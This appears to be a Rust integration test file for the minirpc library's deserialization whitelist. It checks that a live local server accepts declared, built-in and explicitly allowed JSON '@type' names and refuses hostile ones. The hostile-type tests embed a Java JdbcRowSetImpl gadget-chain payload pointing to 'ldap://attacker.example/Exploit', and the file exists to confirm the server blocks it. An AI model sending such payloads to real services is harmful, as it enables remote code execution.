//! The deserialization whitelist, end to end over a live server.
//!
//! A JSON record names its own type (`"@type":"Order"`), so the server
//! checks that name against three layers before it reads a single field
//! (see `src/whitelist.rs`): types declared by registered methods'
//! signatures, minirpc's built-in named types, and types added by hand with
//! `ServerBuilder::allow_type`. These tests speak to a real server with a
//! JSON client where the caller is well-behaved, and with hand-written JSON
//! frames where the caller is hostile, because a typed client cannot be
//! made to send a type name it does not have.
//!
//! Every server binds `127.0.0.1:0`, every client and raw socket has
//! bounded timeouts, and no test sleeps.

mod common;

use common::{raw_connect, read_response, send, RawResponse, PATIENCE};
use minirpc::codec::{self, CodecId, JsonCx};
use minirpc::protocol::{self, FrameKind};
use minirpc::server::Handler;
use minirpc::{record, CallContext, Client, Server, ServerBuilder, ServerHandle, Status};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

// ---- the types -----------------------------------------------------------------

record! {
    #[derive(Debug, Clone, PartialEq)]
    pub struct Item { pub sku: String, pub qty: u32 }
}

record! {
    #[derive(Debug, Clone, PartialEq)]
    pub struct Address { pub city: String }
}

record! {
    #[derive(Debug, Clone, PartialEq)]
    pub struct Order {
        pub id: u64,
        pub items: Vec<Item>,
        pub ship_to: Option<Address>,
    }
}

// Decoded only by a raw handler, so no signature declares it: it is allowed
// only if the server says `allow_type("AuditRecord")`.
record! {
    #[derive(Debug, Clone, PartialEq)]
    pub struct AuditRecord { pub actor: String, pub action: String }
}

// ---- the server under test -------------------------------------------------------

/// A server with:
/// - `PlaceOrder(Order) -> u64`, the total quantity (layer 1: `Order`,
///   `Item` and `Address` are declared by its signature);
/// - `Delay(Duration) -> u64`, the milliseconds (layer 2: `Duration` is
///   built in);
/// - `Audit`, a raw handler that decodes an `AuditRecord` by hand, checked
///   against the server's whitelist (layer 3, if the builder allows it);
/// - `Multiply(i32, i32) -> i32`.
///
/// `PlaceOrder` and `Audit` count how often their bodies run.
struct Shop {
    handle: ServerHandle,
    orders_placed: Arc<AtomicUsize>,
    audits_run: Arc<AtomicUsize>,
}

impl Shop {
    fn start(builder: ServerBuilder) -> Shop {
        let orders_placed = Arc::new(AtomicUsize::new(0));
        let audits_run = Arc::new(AtomicUsize::new(0));
        let mut server = builder.build();
        {
            let orders_placed = Arc::clone(&orders_placed);
            server.register("PlaceOrder", move |order: Order| {
                orders_placed.fetch_add(1, Ordering::SeqCst);
                Ok(order.items.iter().map(|i| u64::from(i.qty)).sum::<u64>())
            });
        }
        server.register("Delay", |d: Duration| Ok(d.as_millis() as u64));
        server.register("Multiply", |(l, r): (i32, i32)| Ok(l * r));
        server.register_handler("Audit", audit_handler(Arc::clone(&audits_run)));
        let handle = server.serve("127.0.0.1:0").expect("bind 127.0.0.1:0");
        Shop {
            handle,
            orders_placed,
            audits_run,
        }
    }

    fn addr(&self) -> SocketAddr {
        self.handle.local_addr()
    }

    fn orders_placed(&self) -> usize {
        self.orders_placed.load(Ordering::SeqCst)
    }

    fn audits_run(&self) -> usize {
        self.audits_run.load(Ordering::SeqCst)
    }
}

/// A handler written by hand (no typed registration, so nothing is
/// declared): it decodes its own argument, in JSON against the whitelist,
/// and answers `"actor action"`.
fn audit_handler(runs: Arc<AtomicUsize>) -> Arc<Handler> {
    Arc::new(move |ctx: &CallContext, args: &[u8], out: &mut Vec<u8>| {
        let record: AuditRecord = match ctx.codec() {
            CodecId::Json => {
                codec::from_json(args, ctx.limits(), &JsonCx::checked(ctx.whitelist()))?
            }
            CodecId::Binary => codec::from_bytes(args, ctx.limits())?,
        };
        runs.fetch_add(1, Ordering::SeqCst);
        codec::encode_as(
            ctx.codec(),
            &format!("{} {}", record.actor, record.action),
            out,
        );
        Ok(())
    })
}

fn json_client(addr: SocketAddr) -> Client {
    Client::builder()
        .codec(CodecId::Json)
        .connect_timeout(PATIENCE)
        .call_timeout(PATIENCE)
        .connect(addr)
        .expect("connect a JSON client")
}

fn binary_client(addr: SocketAddr) -> Client {
    Client::builder()
        .connect_timeout(PATIENCE)
        .call_timeout(PATIENCE)
        .connect(addr)
        .expect("connect a binary client")
}

/// Send one request in the JSON codec (header byte 1) whose arguments are
/// exactly the text `args`, and read its response.
fn raw_json_call(addr: SocketAddr, call_id: &str, args: &str) -> RawResponse {
    let mut frame = Vec::new();
    let start = protocol::begin_request(
        &mut frame,
        FrameKind::Request,
        CodecId::Json,
        1,
        call_id,
        0,
        &[],
    );
    frame.extend_from_slice(args.as_bytes());
    protocol::finish_frame(&mut frame, start);
    let mut s = raw_connect(addr);
    send(&mut s, &frame);
    let resp = read_response(&mut s);
    assert_eq!(resp.header.request_id, 1, "{resp:?}");
    resp
}

/// The text of a successful JSON response.
fn ok_text(resp: &RawResponse) -> &str {
    assert_eq!(resp.status, Status::Ok, "{}", resp.message);
    assert_eq!(resp.header.codec, CodecId::Json as u8, "answered in JSON");
    std::str::from_utf8(&resp.result).expect("a JSON result is UTF-8")
}

/// Assert that `resp` is the whitelist's refusal of `name`.
fn assert_refused_by_whitelist(resp: &RawResponse, name: &str) {
    assert_eq!(resp.status, Status::InvalidArgument, "{}", resp.message);
    let expected = format!("type \"{name}\" is not in the deserialization whitelist");
    assert!(
        resp.message.contains(&expected),
        "{:?} does not say {expected:?}",
        resp.message
    );
    assert!(
        resp.message.contains(&format!("allow_type(\"{name}\")")),
        "{:?} does not say how to allow it",
        resp.message
    );
}

const GOOD_ORDER: &str = r#"{"@type":"Order","id":7,"items":[{"@type":"Item","sku":"A-1","qty":2},{"@type":"Item","sku":"B-2","qty":3}],"ship_to":{"@type":"Address","city":"Hangzhou"}}"#;

// ---- layer 1: declared by a registered method's signature ---------------------------

#[test]
fn declared_types_lists_a_methods_record_and_the_records_inside_it() {
    let mut server = Server::new();
    server.register("PlaceOrder", |order: Order| Ok(order.id));
    let mut declared = server.declared_types().to_vec();
    declared.sort_unstable();
    assert_eq!(declared, ["Address", "Item", "Order"]);
}

#[test]
fn declared_types_leaves_out_built_in_and_hand_decoded_types() {
    let mut server = Server::new();
    server.register("Delay", |d: Duration| Ok(d.as_secs()));
    server.register_handler("Audit", audit_handler(Arc::new(AtomicUsize::new(0))));
    assert!(
        server.declared_types().is_empty(),
        "{:?}",
        server.declared_types()
    );
}

#[test]
fn a_json_client_can_send_a_record_its_method_declares() {
    let shop = Shop::start(Server::builder());
    let order = Order {
        id: 7,
        items: vec![Item {
            sku: "A-1".into(),
            qty: 2,
        }],
        ship_to: None,
    };
    let total: u64 = json_client(shop.addr()).call("PlaceOrder", &order).unwrap();
    assert_eq!(total, 2);
    assert_eq!(shop.orders_placed(), 1);
}

#[test]
fn a_raw_json_frame_naming_the_declared_records_is_accepted() {
    let shop = Shop::start(Server::builder());
    let resp = raw_json_call(shop.addr(), "PlaceOrder", GOOD_ORDER);
    assert_eq!(ok_text(&resp), "5");
    assert_eq!(shop.orders_placed(), 1);
}

// ---- layer 2: built in ---------------------------------------------------------------

#[test]
fn a_built_in_named_type_is_accepted_without_being_declared() {
    let shop = Shop::start(Server::builder());
    let ms: u64 = json_client(shop.addr())
        .call("Delay", &Duration::from_millis(1500))
        .unwrap();
    assert_eq!(ms, 1500);
    let resp = raw_json_call(
        shop.addr(),
        "Delay",
        r#"{"@type":"Duration","secs":2,"nanos":5000000}"#,
    );
    assert_eq!(ok_text(&resp), "2005");
}

// ---- layer 3: allowed by hand ----------------------------------------------------------

#[test]
fn a_type_allowed_with_allow_type_is_accepted_by_a_raw_handler() {
    let shop = Shop::start(Server::builder().allow_type("AuditRecord"));
    let record = AuditRecord {
        actor: "alice".into(),
        action: "refund".into(),
    };
    let said: String = json_client(shop.addr()).call("Audit", &record).unwrap();
    assert_eq!(said, "alice refund");
    let resp = raw_json_call(
        shop.addr(),
        "Audit",
        r#"{"@type":"AuditRecord","actor":"bob","action":"login"}"#,
    );
    assert_eq!(ok_text(&resp), r#""bob login""#);
    assert_eq!(shop.audits_run(), 2);
}

#[test]
fn a_raw_handler_refuses_its_own_type_when_nobody_allowed_it() {
    let shop = Shop::start(Server::builder());
    let record = AuditRecord {
        actor: "alice".into(),
        action: "refund".into(),
    };
    let e = json_client(shop.addr())
        .call::<_, String>("Audit", &record)
        .unwrap_err();
    assert_eq!(e.status, Status::InvalidArgument, "{e}");
    assert!(
        e.message
            .starts_with("type \"AuditRecord\" is not in the deserialization whitelist"),
        "{e}"
    );
    assert!(e.message.contains("allow_type"), "{e}");
    assert_eq!(shop.audits_run(), 0);
}

#[test]
fn a_raw_handler_refuses_a_record_naming_a_type_that_is_not_allowed() {
    let shop = Shop::start(Server::builder().allow_type("AuditRecord"));
    let resp = raw_json_call(
        shop.addr(),
        "Audit",
        r#"{"@type":"SecretKey","actor":"eve","action":"steal"}"#,
    );
    assert_refused_by_whitelist(&resp, "SecretKey");
    assert!(
        resp.message
            .starts_with("type \"SecretKey\" is not in the deserialization whitelist"),
        "{}",
        resp.message
    );
    assert_eq!(shop.audits_run(), 0);
}

// ---- hostile type names ------------------------------------------------------------------

#[test]
fn a_gadget_chain_type_name_is_refused_and_the_handler_never_runs() {
    let shop = Shop::start(Server::builder());
    let gadget = r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/Exploit","autoCommit":true}"#;
    let resp = raw_json_call(shop.addr(), "PlaceOrder", gadget);
    assert_refused_by_whitelist(&resp, "com.sun.rowset.JdbcRowSetImpl");
    // The response left after the handler would have run: it did not.
    assert_eq!(shop.orders_placed(), 0);
}

#[test]
fn a_gadget_type_nested_inside_a_declared_record_is_refused() {
    let shop = Shop::start(Server::builder());
    let nested = r#"{"@type":"Order","id":1,"items":[{"@type":"com.sun.rowset.JdbcRowSetImpl","sku":"x","qty":1}]}"#;
    let resp = raw_json_call(shop.addr(), "PlaceOrder", nested);
    assert_refused_by_whitelist(&resp, "com.sun.rowset.JdbcRowSetImpl");
    assert!(resp.message.contains("Order.items"), "{}", resp.message);
    assert_eq!(shop.orders_placed(), 0);
}

#[test]
fn an_allowed_type_sent_where_another_is_expected_is_refused() {
    let shop = Shop::start(Server::builder());
    let resp = raw_json_call(
        shop.addr(),
        "PlaceOrder",
        r#"{"@type":"Item","sku":"A-1","qty":2}"#,
    );
    assert_eq!(resp.status, Status::InvalidArgument, "{}", resp.message);
    assert!(
        resp.message
            .contains("expected Order here, but the JSON says \"@type\": \"Item\""),
        "{}",
        resp.message
    );
    assert!(resp.message.contains("PlaceOrder"), "{}", resp.message);
    assert_eq!(shop.orders_placed(), 0);
}

#[test]
fn a_type_name_that_is_not_a_string_is_refused() {
    let shop = Shop::start(Server::builder());
    let resp = raw_json_call(
        shop.addr(),
        "PlaceOrder",
        r#"{"@type":["Order"],"id":1,"items":[]}"#,
    );
    assert_eq!(resp.status, Status::InvalidArgument, "{}", resp.message);
    assert!(
        resp.message.contains("\"@type\" must be a string"),
        "{}",
        resp.message
    );
    assert_eq!(shop.orders_placed(), 0);
}

#[test]
fn type_names_are_case_sensitive() {
    let shop = Shop::start(Server::builder());
    let resp = raw_json_call(
        shop.addr(),
        "PlaceOrder",
        r#"{"@type":"order","id":1,"items":[]}"#,
    );
    assert_refused_by_whitelist(&resp, "order");
}

#[test]
fn a_refused_call_leaves_the_connection_and_server_serving() {
    let shop = Shop::start(Server::builder());
    let mut s = raw_connect(shop.addr());
    let mut frames = Vec::new();
    for (id, args) in [
        (1u64, r#"{"@type":"com.sun.rowset.JdbcRowSetImpl"}"#),
        (2, GOOD_ORDER),
    ] {
        let start = protocol::begin_request(
            &mut frames,
            FrameKind::Request,
            CodecId::Json,
            id,
            "PlaceOrder",
            0,
            &[],
        );
        frames.extend_from_slice(args.as_bytes());
        protocol::finish_frame(&mut frames, start);
    }
    send(&mut s, &frames);
    let mut answers = [read_response(&mut s), read_response(&mut s)];
    answers.sort_by_key(|r| r.header.request_id);
    assert_refused_by_whitelist(&answers[0], "com.sun.rowset.JdbcRowSetImpl");
    assert_eq!(ok_text(&answers[1]), "5");
    assert_eq!(shop.orders_placed(), 1);
}

// ---- two record types with one name ----------------------------------------------------

// Two modules may each have an `Order`; the whitelist knows types by their
// bare names, so both are "Order". Each one's fields must still be declared.
mod billing {
    minirpc::record! {
        #[derive(Debug, Clone, PartialEq)]
        pub struct Order { pub id: u64 }
    }
}

mod shipping {
    minirpc::record! {
        #[derive(Debug, Clone, PartialEq)]
        pub struct Parcel { pub kg: u32 }
    }
    minirpc::record! {
        #[derive(Debug, Clone, PartialEq)]
        pub struct Order { pub parcels: Vec<Parcel> }
    }
}

#[test]
fn a_record_inside_a_second_type_of_the_same_name_is_still_declared() {
    let mut server = Server::new();
    server.register("Bill", |o: billing::Order| Ok(o.id));
    server.register("Ship", |o: shipping::Order| Ok(o.parcels.len() as u64));
    let declared = server.declared_types().to_vec();
    let handle = server.serve("127.0.0.1:0").expect("bind 127.0.0.1:0");
    let order = shipping::Order {
        parcels: vec![shipping::Parcel { kg: 3 }],
    };
    let sent: Result<u64, _> = json_client(handle.local_addr()).call("Ship", &order);
    assert_eq!(
        sent,
        Ok(1),
        "Parcel is in Ship's signature, so it is declared (declared: {declared:?})"
    );
    assert!(declared.contains(&"Parcel"), "{declared:?}");
}

// ---- the binary codec ------------------------------------------------------------------------

#[test]
fn binary_calls_to_a_declared_method_are_unaffected() {
    let shop = Shop::start(Server::builder());
    let order = Order {
        id: 1,
        items: vec![Item {
            sku: "A-1".into(),
            qty: 4,
        }],
        ship_to: Some(Address {
            city: "Hangzhou".into(),
        }),
    };
    let total: u64 = binary_client(shop.addr())
        .call("PlaceOrder", &order)
        .unwrap();
    assert_eq!(total, 4);
    let y: i32 = binary_client(shop.addr())
        .call("Multiply", &(10i32, 20i32))
        .unwrap();
    assert_eq!(y, 200);
}

#[test]
fn binary_arguments_carry_no_type_names_so_the_whitelist_never_applies() {
    // The same AuditRecord the JSON path refuses without allow_type: in
    // binary the bytes name no type, and decoding can only build the type
    // the handler asked for.
    let shop = Shop::start(Server::builder());
    let record = AuditRecord {
        actor: "alice".into(),
        action: "refund".into(),
    };
    let said: String = binary_client(shop.addr()).call("Audit", &record).unwrap();
    assert_eq!(said, "alice refund");
    assert_eq!(shop.audits_run(), 1);
}
